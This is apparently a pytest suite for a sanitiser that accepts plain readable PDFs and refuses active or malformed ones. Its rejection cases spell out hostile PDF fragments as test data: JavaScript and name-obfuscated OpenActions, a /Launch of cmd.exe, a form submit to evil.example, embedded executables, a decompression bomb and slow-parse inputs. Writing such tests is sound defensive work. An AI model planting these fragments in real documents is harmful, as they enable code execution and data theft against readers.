"""PDFs that people send: papers to read are taken, whatever else a PDF can be is refused."""

import os
import time

import pytest
import typst
from hypothesis import example, given
from hypothesis import strategies as st

from hearth.lib import sent_pdfs
from hearth.lib.testing import a_pdf, a_stream

OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"


def why(data: bytes) -> str | None:
    """Why this is refused; None if it is taken."""
    try:
        sent_pdfs.check(data)
    except sent_pdfs.NotPlain as refused:
        return refused.why
    return None


@pytest.mark.parametrize(
    "data",
    [
        a_pdf(),
        a_pdf(a_stream(b"BT (Court order of May 3) Tj ET")),
        a_pdf(a_stream(b"10 0 << /Type /Font /BaseFont /Arial >>", OBJECTS)),
        a_pdf(catalog=b"/OpenAction [3 0 R /Fit] /Outlines << /First 3 0 R >>"),
        a_pdf(b"<< /Type /Annot /A << /S /URI /URI (https://court.example) >> >>"),
        a_pdf(a_stream(os.urandom(3_000_000))),
        bytes(typst.compile(b"= Discharge summary", format="pdf")),
    ],
)
def test_a_paper_to_read_is_taken(data):
    assert why(data) is None


@pytest.mark.parametrize(
    ("data", "refused"),
    [
        (b"", "kind"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "kind"),
        (b"PK\x03\x04" + a_pdf(), "kind"),
        (b"<!doctype html>" + a_pdf(), "kind"),
        (a_pdf()[:-40], "broken"),
        (a_pdf() + b"PK\x03\x04", "more"),
        (a_pdf() + b"<script>alert(1)</script>", "more"),
        (a_pdf(trailer=b"/Encrypt 4 0 R"), "locked"),
        (a_pdf(trailer=b"/#45ncrypt 4 0 R"), "locked"),
        (a_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
        (a_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "active"),
        (a_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active"),
        (a_pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), "active"),
        (a_pdf(b"<< /S /GoToR /F (other.pdf) >>"), "active"),
        (a_pdf(catalog=b"/AcroForm << /XFA [(a) 4 0 R] >>"), "active"),
        (a_pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"), "active"),
        (a_pdf(a_stream(b"MZ", b"/Type /EmbeddedFile /Filter /FlateDecode")), "active"),
        (a_pdf(a_stream(b"10 0 << /S /JavaScript /JS 5 0 R >>", OBJECTS)), "active"),
        (a_pdf(a_stream(b"10 0 << /S /Launch >>", b"/N 1 /First 4 /Filter [/FlateDecode]")), "active"),
        (a_pdf(a_stream(b"10 0 << /S /Launch >>", b"/N 1 /F#69rst 4 /#46ilter /FlateDecode")), "active"),
        (a_pdf(a_stream(b"x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")), "active"),
        (a_pdf(a_stream(b"x", b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>")), "active"),
        (a_pdf(a_stream(b"x", b"/Type /ObjStm /Filter 9 0 R")), "active"),
        (a_pdf(a_stream(b"x", b"/First 4 /N 1 (8 0 obj <<) /Filter /LZWDecode")), "active"),
        (a_pdf(b"<< /N 1 /First 4 /Filter /FlateDecode >>\nstream\nnot packed\nendstream"), "broken"),
    ],
)
def test_whatever_else_it_can_be_is_refused(data, refused):
    assert why(data) == refused


def test_a_bomb_of_objects_is_refused_before_it_fills_the_memory():
    bomb = a_pdf(*[a_stream(bytes(40_000_000), OBJECTS)] * 2)
    assert len(bomb) < 100_000
    assert why(bomb) == "large"


@pytest.mark.parametrize("piece", [b"obj <<", b"obj\n<< (", b"obj << /N 1 /First 2 >> stream\n"])
def test_a_file_made_to_be_slow_is_judged_in_time(piece):
    began = time.perf_counter()
    why(a_pdf(piece * (500_000 // len(piece))))
    assert time.perf_counter() - began < 5


@given(st.binary(max_size=400), st.integers(0, 400))
@example(b"obj << /Filter", 60)
def test_no_damage_makes_the_reader_stumble(noise, at):
    whole = a_pdf(a_stream(b"10 0 << /Type /Font >>", OBJECTS))
    assert why(whole[:at] + noise + whole[at:]) in {None, "kind", "broken", "more", "locked", "active", "large"}
